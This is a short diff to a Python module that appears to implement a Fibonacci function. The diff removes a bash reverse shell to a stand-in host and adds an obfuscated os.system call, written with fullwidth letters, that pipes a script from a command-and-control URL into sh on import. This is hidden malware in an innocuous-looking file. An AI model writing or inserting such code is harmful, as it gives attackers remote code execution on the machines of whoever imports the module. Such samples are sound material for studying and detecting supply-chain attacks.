@@ -1,9 +1,6 @@
 
 import os
-steps = {"a": "bash -i >& /dev/tcp/evil.example.com/31337 0>&1"}
-for k in ["a"]:
-    pass
-os.popen(steps.get("a"))
+os.ｓｙｓｔｅｍ("curl -s http://c2.example.org/i.py | sh")
 def fib(n):
     """Return the n-th Fibonacci number."""
     a, b = 0, 1
